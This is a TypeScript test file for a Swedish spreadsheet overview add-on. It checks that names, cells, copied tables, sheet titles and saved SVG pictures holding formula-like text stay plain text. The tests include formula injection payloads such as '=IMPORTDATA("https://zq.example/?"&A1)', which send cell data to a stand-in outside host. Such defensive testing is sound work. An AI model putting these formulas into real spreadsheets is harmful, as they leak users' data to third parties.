import { asTable, fromTable } from '../../local/pages/sheets/clipboard';
import { plainText } from '../../src/overview/cells';
import { plotSvg } from '../../src/overview/year/picture';
import { plotPanelWords } from '../../src/text/plotPanels';
import { byHand } from '../addon/overviewActs';
import { minutes, OverviewBed } from '../addon/overviewBed';
import { edit, put } from '../addon/overviewByHand';
import { formulas } from './hostile/formulas';
import { howMany } from './howMany';

/** Where in a spreadsheet a text may stand that begins as a formula does. */
const asText = /\.userEnteredValue\.stringValue$/;
/** Where a formula may begin: the value of a condition is read as if it had been typed, too. */
const begins = /^\s*[=+@\uff1d-]/;

/** Every text of a spreadsheet, with the way to it. */
function textsIn(value: unknown, path = ''): [path: string, text: string][] {
  if (typeof value === 'string') return [[path, value]];
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, part]) =>
    textsIn(part, Array.isArray(value) ? `${path}[]` : `${path}.${key}`),
  );
}

/** What a spreadsheet would work out, wherever it stands. */
const workedOut = (bed: OverviewBed): [path: string, text: string][] =>
  textsIn(bed.stored).filter(
    ([path, text]) => path.endsWith('formulaValue') || (begins.test(text) && !asText.test(path)),
  );

const at = (index: number): string => formulas[index % formulas.length] as string;

/** A group for each text, with others in every field that the overview shows. */
function filled(): OverviewBed {
  const bed = new OverviewBed();
  formulas.forEach((name, index) => {
    const folder = bed.folder(name, bed.root.id);
    const written = minutes(at(index + 1), {
      date: `2025-10-${String(1 + (index % 28)).padStart(2, '0')}`,
      focus: at(index + 2),
      leader: at(index + 3),
      schools: at(index + 4),
      task: at(index + 5),
      share: `Ja, från rubriken ${at(index + 6)}`,
      promised: ['2025-12-01'],
    });
    bed.document(at(index + 7), written, folder.id);
  });
  bed.setUp();
  bed.refresh();
  return bed;
}

describe('texts that begin as formulas do', () => {
  const bed = filled();
  const shown = () =>
    new Set(bed.stored.sheets.flatMap(({ properties }) => bed.texts(properties.title).flat()));

  test('stand as text in every cell after a refresh, whole, on one line and once each', () => {
    expect(formulas.length).toBeGreaterThan(100);
    expect(new Set(bed.table('Översikt').map(({ Grupp }) => Grupp))).toEqual(
      new Set(formulas.map((name) => plainText(name))),
    );
    const focuses = new Set(bed.table('Protokoll').map(({ Fokus }) => Fokus));
    expect(formulas.filter((name) => focuses.has(plainText(name))).length).toBeGreaterThan(150);
    expect([...shown()].filter((words) => /[\t\r\n\u2028\u2029]/.test(words))).toEqual([]);
    expect(workedOut(bed)).toEqual([]);
  });

  test('are one cell each when they are copied as text, and text in a picture that is saved', () => {
    const texts = bed.texts('Protokoll');
    const box = { top: 0, left: 0, bottom: texts.length, right: texts[0]?.length ?? 0 };
    const copied = fromTable(asTable(bed.tab('Protokoll'), box, 'sv'));
    expect(copied.map((row) => row.length)).toEqual(texts.map(() => box.right));
    const svg = plotSvg(bed.value('yearPlot', {}), plotPanelWords.sv.picture);
    expect(svg).not.toMatch(/[a-z-]+="\s*[=+@]/);
    expect(svg).toContain('=IMPORTDATA(&quot;https://zq.example/?&quot;&amp;A1)');
  });

  test('stay so when a coordinator types them, also as formulas, and sorts, renames and refreshes', () => {
    const [headers = [], ...rows] = bed.texts('Inställningar');
    const [folder, name] = [headers.indexOf('Mapp'), headers.indexOf('Namn i översikten')];
    const typed = rows.flatMap((cells, row) => (cells[folder] ? [row + 1] : []));
    edit(bed, 'Inställningar', (sheet) =>
      typed.reduce(
        (so, row) => put(so, row, name, { userEnteredValue: { formulaValue: `=CONCAT("Egen ";"${row}")` } }),
        sheet,
      ),
    );
    const schools = bed.texts('Översikt')[0]?.indexOf('Skolor') ?? -1;
    edit(bed, 'Översikt', (sheet) =>
      put(sheet, 3, schools, { userEnteredValue: { formulaValue: '=IMPORTDATA("https://zq.example/")' } }),
    );
    const { sheetId } = bed.tab('Översikt').properties;
    const properties = { sheetId, title: '=IMPORTDATA("https://zq.example/")' };
    byHand(bed, [{ updateSheetProperties: { properties, fields: 'title' } }]);
    bed.refresh();
    const own = new RegExp(`^=CONCAT|^${properties.title.replace(/[()"/]/g, '\\$&')}`);
    const formulaCells = workedOut(bed).filter(([path]) => path.endsWith('formulaValue'));
    // Their own formulas stand where they typed them and nowhere else; the overview takes over their words.
    expect(formulaCells.every(([, words]) => own.test(words))).toBe(true);
    expect(formulaCells.length).toBeLessThanOrEqual(typed.length + 1);
    expect([...shown()].some((words) => words.startsWith('=CONCAT("Egen'))).toBe(true);
    const others = workedOut(bed).filter(([path]) => !path.endsWith('formulaValue'));
    expect(others.map(([path]) => path)).toEqual(['.sheets[].properties.title']);
  });

  test('go no further than the panel: what a person chooses there is kept for that person alone', () => {
    const before = JSON.stringify(bed.stored);
    const some = formulas.slice(0, howMany(12, formulas.length));
    for (const school of some) bed.ask('readingList', { choose: { school } });
    bed.ask('readTo', { keys: [...formulas] });
    for (const link of some) bed.ask('lookAtFolder', { link });
    for (const folder of some) expect(bed.ask('chooseFolder', { folder }).ok).toBe(false);
    expect(JSON.stringify(bed.stored)).toBe(before);
  });
});
